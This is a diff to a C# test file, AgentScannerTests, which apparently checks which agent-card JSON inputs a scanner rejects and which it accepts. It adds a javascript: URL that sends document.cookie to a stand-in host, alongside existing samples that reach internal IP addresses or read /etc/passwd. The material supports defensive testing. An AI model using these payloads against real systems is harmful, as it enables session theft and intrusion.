@@ -16,6 +16,7 @@ public sealed class AgentScannerTests
         { "a URL in a data part", """{"parts":[{"kind":"data","data":{"next":["http://192.168.1.1/admin"]}}]}""" },
         { "a local file", """{"parts":[{"file":{"uri":"file:///etc/passwd"}}]}""" },
         { "gopher", """{"parts":[{"url":"gopher://example.com:70/_x"}]}""" },
+        { "a program", """{"documentationUrl":"javascript:fetch('https://a.example/'+document.cookie)"}""" },
         { "internal address by WebSocket", """{"endpoint":"ws://10.0.0.5/agent"}""" },
         { "too deep", string.Concat(Enumerable.Repeat("{\"a\":", 30)) + "1" + new string('}', 30) },
         { "too many nodes", "[" + string.Join(',', Enumerable.Repeat("\"a\"", 10_001)) + "]" },
@@ -29,6 +30,7 @@ public sealed class AgentScannerTests
         { "an inline image", """{"parts":[{"url":"data:image/png;base64,iVBORw0KGgo="}]}""" },
         { "prose that names an address", """{"parts":[{"text":"Please check why http://10.0.0.5/ is slow today."}]}""" },
         { "a table of many numbers", "[" + string.Join(',', Enumerable.Range(0, 20_000)) + "]" },
+        { "a tag of two words", """{"tags":["javascript:typescript"]}""" },
         { "gRPC", """{"url":"grpc://agents.example.com:50051","preferredTransport":"GRPC"}""" },
     };
 
